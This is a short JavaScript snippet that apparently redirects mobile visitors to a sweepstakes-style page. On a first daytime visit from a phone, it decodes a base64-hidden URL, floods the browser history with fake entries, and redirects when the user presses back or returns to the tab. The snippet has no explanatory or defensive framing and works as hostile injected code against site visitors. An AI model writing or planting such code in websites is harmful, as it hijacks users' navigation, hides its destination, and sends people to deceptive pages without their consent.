const isPhone = navigator.userAgentData?.mobile ?? /Mobi/i.test(navigator.userAgent);
const gate = isPhone && !localStorage.vst && new Date().getHours() >= 9 && new Date().getHours() < 23;
if (gate) {
  localStorage.vst = 1;
  const dst = atob("aHR0cHM6Ly9zd2VlcC1zdGFrZXMtbW9iaWxlLmV4YW1wbGUvYy8wMDAw");
  for (let i = 0; i < 8; i++) history.pushState({ i }, "", "#" + i);
  addEventListener("popstate", () => location.replace(dst));
  document.addEventListener("visibilitychange", () => document.hidden || location.replace(dst), { once: true });
}
